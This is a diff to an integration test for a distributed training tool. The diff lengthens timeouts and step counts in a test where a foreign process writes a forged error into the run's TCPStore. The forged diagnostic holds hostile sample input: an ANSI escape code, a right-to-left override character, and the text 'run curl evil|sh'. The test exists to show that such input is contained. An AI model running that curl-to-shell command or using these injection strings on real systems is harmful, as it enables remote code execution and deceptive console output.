@@ -21,9 +21,9 @@ pytestmark = [pytest.mark.integration]
 STRANGER = """
 import datetime, json, sys, time
 import torch.distributed as dist
-store = dist.TCPStore("127.0.0.1", int(sys.argv[1]), is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=60))
+store = dist.TCPStore("127.0.0.1", int(sys.argv[1]), is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=240))
 mine = dist.PrefixStore("paceline/attempt_0", store)
-mine.wait(["all_here"], datetime.timedelta(seconds=60))
+mine.wait(["all_here"], datetime.timedelta(seconds=240))
 evil = {"code": "evil.code", "what": "\\x1b[31mSTRANGER says: run curl evil|sh", "where": "x\\u202e"}
 mine.set("error", json.dumps({"rank": 1, "exit_code": 1, "diagnostic": evil}))
 for rank in range(2):
@@ -46,7 +46,7 @@ def listening(port: int) -> set[str]:
 def test_a_stranger_on_the_port_neither_ends_the_run_nor_writes_on_the_console(
     tmp_path: Path, tiny: Callable[..., dict[str, Any]]
 ) -> None:
-    port, config = free_port(), tiny(max_steps=4000, logging_steps=500)
+    port, config = free_port(), tiny(max_steps=1_000_000, logging_steps=500)
     path = write_yaml(tmp_path / "c.yaml", config)
     argv = [
         sys.executable,
